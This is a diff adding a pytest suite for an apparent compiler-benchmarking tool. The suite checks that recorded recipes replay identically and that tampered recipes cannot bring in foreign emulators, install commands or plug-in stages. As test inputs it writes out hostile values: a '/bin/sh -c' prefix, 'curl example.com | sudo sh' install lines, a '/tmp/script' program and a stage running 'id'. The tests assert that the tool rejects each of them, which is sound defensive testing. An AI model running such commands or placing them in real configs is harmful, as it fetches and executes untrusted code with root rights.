@@ -1,0 +1,231 @@
+"""A recipe replays to the same artifacts and parameters, with the programs of this machine only."""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from command_line import Project
+from kernloom.errors import ConfigError, UnavailableError
+from kernloom.places import share_folder
+from recipes import RecipeBench, artifact_keys
+
+CONFIGS = share_folder() / "configs"
+WORKLOADS = sorted(path.stem for path in (CONFIGS / "workload").glob("*.yaml"))
+TARGETS = sorted(path.stem for path in (CONFIGS / "target").glob("*.yaml"))
+EMULATED = "host_counted"
+"""A target with an emulator; reading its recipe does not need the emulator itself."""
+
+
+@pytest.mark.parametrize("target", ["host", "riscv_bare"])
+def test_every_workload_plans_the_same_from_its_recipe(bench: RecipeBench, target: str) -> None:
+    try:
+        plans = bench.plans(f"workload={','.join(WORKLOADS)}", f"target={target}", "case=small")
+    except UnavailableError as error:
+        pytest.skip(error.message)
+    entries, again = bench.replan(bench.write(f"{target}.yaml", plans))
+    assert [entry.notes for entry in entries] == [()] * len(plans)
+    for plan, replayed in zip(plans, again, strict=True):
+        assert replayed.refusal is None
+        assert replayed.params == plan.params
+        assert artifact_keys(replayed) == artifact_keys(plan)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("target", TARGETS)
+def test_every_workload_runs_the_same_from_its_recipe(
+    shared_project: Project, tmp_path: Path, target: str
+) -> None:
+    recipe = tmp_path / "all.yaml"
+    words = (f"workload={','.join(WORKLOADS)}", f"target={target}", "case=small")
+    done = shared_project.json("run", "-m", *words, "measure=quick", f"recipe={recipe}")
+    if done.code == 3:
+        pytest.skip(done.stderr)
+    assert done.code == 0, done.stderr
+    replayed = shared_project.json("recipe", "run", str(recipe))
+    assert (replayed.code, replayed.stderr) == (0, "")
+    for first, second in zip(done.trials, replayed.trials, strict=True):
+        assert second["params"] == first["params"]
+        assert keys(second) == keys(first)
+
+
+def keys(trial: dict[str, Any]) -> dict[str, str]:
+    return {item["name"]: item["key"] for item in trial["artifacts"]}
+
+
+def test_a_vector_length_of_ones_own_replays(bench: RecipeBench) -> None:
+    plan = bench.plan("workload=axpy", "target=aarch64_sve", "case=small", "arch.vector_bits=512")
+    entries, (again,) = bench.replan(bench.write("sve.yaml", [plan]))
+    assert again.experiment.target.emulator == plan.experiment.target.emulator
+    assert entries[0].notes == ()
+
+
+def test_steps_without_every_transform_replay(tmp_path: Path) -> None:
+    project = Project(tmp_path)
+    project.write("configs/pipeline/short.yaml", SHORT)
+    bench = RecipeBench(project)
+    plan = bench.plan("workload=mlp", "case=small", "pipeline=short")
+    _, (again,) = bench.replan(bench.write("short.yaml", [plan]))
+    assert again.params == plan.params
+    assert artifact_keys(again) == artifact_keys(plan)
+
+
+SHORT = """\
+defaults: [native, _self_]
+name: short
+stages:
+  blocking: {in: {schedule: {ref: shapes.schedule}}}
+  unrolling: {in: {schedule: {ref: blocking.schedule}}}
+"""
+"""The usual pipeline without fusing and packing taking part."""
+
+
+def test_a_toolchain_derived_from_another_replays(tmp_path: Path) -> None:
+    project = Project(tmp_path)
+    text = "defaults: [gcc, _self_]\ntools: {cc: x86_64-linux-gnu-gcc}\n"
+    project.write("configs/toolchain/mine.yaml", text)
+    bench = RecipeBench(project)
+    try:
+        plan = bench.plan("workload=axpy", "case=small", "toolchain=mine")
+    except UnavailableError as error:
+        pytest.skip(error.message)
+    _, (again,) = bench.replan(bench.write("mine.yaml", [plan]))
+    assert artifact_keys(again) == artifact_keys(plan)
+
+
+def emulated(bench: RecipeBench) -> Any:
+    """The document of a recipe for an emulated target."""
+    plan = bench.plan("workload=axpy", "case=small")
+    document = bench.document(bench.write("host.yaml", [plan]))
+    target = next(iter(bench.assembly.composer.points([f"target={EMULATED}"], multirun=False)))
+    document["trials"][0]["config"] |= {
+        key: copy.deepcopy(target.data[key]) for key in ("target", "arch", "toolchain")
+    }
+    return document
+
+
+HOSTILE: dict[str, Callable[[Any], None]] = {
+    "a shell before the arguments": lambda emulator: emulator.update(
+        args=["/bin/sh", "-c", "id > x", *emulator["args"]]
+    ),
+    "an argument that writes a file": lambda emulator: emulator.update(args=["-D", "/tmp/x"]),
+    "another program": lambda emulator: emulator.update(program="/tmp/script"),
+    "another way to install": lambda emulator: emulator.update(
+        install={"debian": "curl example.com | sudo sh"}
+    ),
+    "another version": lambda emulator: emulator.update(minimum_version="99"),
+    "another isa": lambda emulator: emulator.update(isa=""),
+    "nothing lacking": lambda emulator: emulator.update(lacks=[]),
+}
+
+
+@pytest.mark.parametrize("what", HOSTILE)
+def test_the_emulator_is_this_machines_own(bench: RecipeBench, what: str) -> None:
+    document = emulated(bench)
+    ours = copy.deepcopy(document["trials"][0]["config"]["target"]["emulator"])
+    HOSTILE[what](document["trials"][0]["config"]["target"]["emulator"])
+    (entry,) = bench.read(bench.save("hostile.yaml", document))
+    assert entry.point.data["target"]["emulator"] == ours
+
+
+def test_a_recipe_without_its_emulator_gets_this_machines(bench: RecipeBench) -> None:
+    document = emulated(bench)
+    ours = document["trials"][0]["config"]["target"].pop("emulator")
+    (entry,) = bench.read(bench.save("without.yaml", document))
+    assert entry.point.data["target"]["emulator"] == ours
+
+
+def test_it_is_said_that_other_arguments_are_used(bench: RecipeBench) -> None:
+    document = emulated(bench)
+    document["trials"][0]["config"]["target"]["emulator"]["args"] = ["-cpu", "other"]
+    (entry,) = bench.read(bench.save("other.yaml", document))
+    assert any("target.emulator: this machine's is used" in note for note in entry.notes)
+
+
+def test_what_to_install_is_this_machines_advice(bench: RecipeBench) -> None:
+    document = emulated(bench)
+    document["trials"][0]["config"]["toolchain"]["install"] = {"debian": "curl x | sudo sh"}
+    (entry,) = bench.read(bench.save("install.yaml", document))
+    assert "curl" not in str(entry.point.data)
+
+
+def test_a_target_must_be_one_of_this_machines(bench: RecipeBench) -> None:
+    document = emulated(bench)
+    document["trials"][0]["config"]["target"]["name"] = "elsewhere"
+    with pytest.raises(ConfigError, match="unknown target 'elsewhere'"):
+        bench.read(bench.save("elsewhere.yaml", document))
+
+
+def test_a_stage_of_a_plug_in_must_be_one_of_this_machines(bench: RecipeBench) -> None:
+    document = emulated(bench)
+    stages = document["trials"][0]["config"]["pipeline"]["stages"]
+    stages["own"] = {"use": "plugged_in", "command": "id"}
+    with pytest.raises(ConfigError, match="'plugged_in' is none of Kernloom's own"):
+        bench.read(bench.save("plug_in.yaml", document))
+
+
+def test_options_of_a_device_that_is_not_known_are_this_machines(bench: RecipeBench) -> None:
+    document = emulated(bench)
+    document["trials"][0]["config"]["target"]["options"] = {"script": "/tmp/x"}
+    (entry,) = bench.read(bench.save("options.yaml", document))
+    assert "options" not in entry.point.data["target"]
+
+
+def edited(document: Any, change: Callable[[Any], None]) -> Any:
+    document = copy.deepcopy(document)
+    change(document)
+    return document
+
+
+EDITS: dict[str, Callable[[Any], Any]] = {
+    "a size": lambda d: d["trials"][0]["config"]["workload"]["sizes"].update(N=77),
+    "a number": lambda d: d["trials"][0]["config"].update(seed=5),
+    "a description": lambda d: d["trials"][0]["config"]["workload"].update(about="other"),
+    "what is expected": lambda d: d["trials"][0]["expected"].update(id="0" * 16),
+    "a point": lambda d: d["trials"][0].update(point={"seed": 1}),
+    "the order": lambda d: d["trials"].reverse(),
+    "a trial less": lambda d: d["trials"].pop(),
+    "the version": lambda d: d.update(kernloom="9.9.9"),
+    "a digest": lambda d: d["trials"][0].update(digest="0" * 32),
+    "no digest of the file": lambda d: d.pop("digest"),
+    "no digest of a trial": lambda d: d["trials"][0].pop("digest"),
+}
+
+
+@pytest.mark.parametrize("what", EDITS)
+def test_an_edited_recipe_runs_and_says_so(bench: RecipeBench, what: str) -> None:
+    plans = [bench.plan("workload=axpy", "case=small", f"seed={seed}") for seed in (0, 1)]
+    path = bench.write("edits.yaml", plans)
+    assert [entry.notes for entry in bench.read(path)] == [(), ()]
+    document = edited(bench.document(path), EDITS[what])
+    entries, _ = bench.replan(bench.save("edited.yaml", document))
+    notes = [note for entry in entries for note in entry.notes]
+    assert any("edited" in note for note in notes), notes
+
+
+@pytest.mark.parametrize("key", ["config.hooks", "expected.hooks", "hooks", "digest_"])
+def test_an_unknown_key_of_a_recipe_is_named(bench: RecipeBench, key: str) -> None:
+    document = bench.document(bench.write("k.yaml", [bench.plan("workload=axpy", "case=small")]))
+    *folders, last = key.split(".")
+    place = document["trials"][0]
+    for name in folders:
+        place = place[name]
+    place[last] = 1
+    with pytest.raises(ConfigError, match=f"unknown key '{last}'"):
+        bench.read(bench.save("key.yaml", document))
+
+
+def test_an_early_recipe_of_fused_steps_replays(bench: RecipeBench) -> None:
+    """Recipes used to ask nobody but `fixed`, and had no digest."""
+    plan = bench.plan("workload=mlp", "case=small")
+    document = bench.document(bench.write("early.yaml", [plan]))
+    config = document["trials"][0]["config"]
+    config["select"]["providers"] = ["fixed"]
+    config["pipeline"]["stages"]["choice"]["providers"] = ["fixed"]
+    _, (again,) = bench.replan(bench.save("early.yaml", document))
+    assert again.params == plan.params
+    assert artifact_keys(again) == artifact_keys(plan)
